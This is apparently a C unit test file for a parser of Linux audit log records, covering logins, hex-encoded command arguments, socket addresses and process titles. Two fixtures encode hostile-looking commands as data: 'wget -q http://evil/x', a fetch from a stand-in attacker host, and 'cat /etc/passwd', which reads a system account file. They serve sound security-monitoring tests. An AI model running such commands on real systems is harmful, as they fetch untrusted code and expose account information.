/* SPDX-License-Identifier: Apache-2.0
 *
 * test_audit.c - the audit log: quoted and hexadecimal strings, sockets, nested messages.
 */
#include "records.h"

static records *one(const char *line)
{
    records *r = records_of(hmi_text_bytes(hmi_text_of(line)), HMI_TIME_NONE);
    CHECK_EQ(r->code, HM_OK);
    CHECK(records_won(r, "audit"));
    CHECK_EQ(r->count, 1);
    return r;
}

TEST(a_login)
{
    records *r = one("type=USER_LOGIN msg=audit(1591367999.305:4711): pid=1 uid=0 auid=1000 ses=1 "
                     "msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.1 "
                     "terminal=ssh res=failed'\x1dUID=\"root\" AUID=\"bob\"");
    const hmi_event *e = &r->events[0];
    CHECK_EQ(e->kind, HMI_EVENT_LOGIN);
    CHECK_EQ(e->outcome, HMI_OUTCOME_FAILURE);
    CHECK_EQ(e->time.us, INT64_C(1591367999305000));
    CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), "bob");
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.1");
    CHECK_EQ(field_of(e, HMI_DOMAIN, HMI_ROLE_CLIENT, 0).len, 0);
    CHECK_TEXT(field_of(e, HMI_FILE_PATH, HMI_ROLE_CONTENT, 0), "/usr/sbin/sshd");
    records_free(r);
}

TEST(a_command_with_hexadecimal_words)
{
    records *r = one("node=web01.example.net type=EXECVE msg=audit(1591367999.305:1): argc=3 "
                     "a0=\"wget\" a1=\"-q\" a2=687474703A2F2F6576696C2F78");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_COMMAND_LINE, HMI_ROLE_CONTENT, 0), "wget -q http://evil/x");
    CHECK_TEXT(field_of(e, HMI_DOMAIN, HMI_ROLE_HOST, 0), "web01.example.net");
    records_free(r);
}

TEST(sockets)
{
    records *r = one("type=SOCKADDR msg=audit(1591367999.305:1): "
                     "saddr=02000050C6336407000000000000000000");
    CHECK_TEXT(field_of(&r->events[0], HMI_ADDRESS, HMI_ROLE_SERVER, 0), "198.51.100.7");
    records_free(r);
    r = one("type=SOCKADDR msg=audit(1591367999.305:1): "
            "saddr=0A0001BB0000000020010DB800000000000000000000000100000000");
    CHECK_TEXT(field_of(&r->events[0], HMI_ADDRESS, HMI_ROLE_SERVER, 0), "2001:db8:0:0:0:0:0:1");
    records_free(r);
    r = one("type=SOCKADDR msg=audit(1591367999.305:1): saddr=0100");
    CHECK_EQ(r->events[0].field_count, 0);
    records_free(r);
}

TEST(hexadecimal_titles_become_traits_in_the_clear)
{
    collector got;
    hm_err err = { 0 };
    CHECK_OK(records_collect(&got,
                             HM_BYTES("type=PROCTITLE msg=audit(1591367999.305:1): "
                                      "proctitle=636174002F6574632F706173737764\n"
                                      "type=CWD msg=audit(1591367999.305:1): cwd=\"/root\"\n"),
                             &err));
    CHECK_TEXT(collect_fact_of(&got, "log-formats"), "audit");
    CHECK(collect_has(&got, HMI_FILE_PATH, HMI_ROLE_CONTENT, "/root"));
    CHECK(collect_find(&got, HMI_COMMAND_LINE, HMI_ROLE_CONTENT, "cat /etc/passwd") != NULL);
    collect_fini(&got);
}

TEST(every_prefix_and_every_flipped_bit_gets_an_answer)
{
    records_sweep(HM_BYTES("node=h type=EXECVE msg=audit(1591367999.305:1): a0=\"w\" a1=6874\n"
                           "type=USER_LOGIN msg=audit(1591367999.305:4711): saddr=02000050C6336407 "
                           "msg='acct=\"b\" addr=::1 res=failed'\n"));
}

RUN_TESTS()
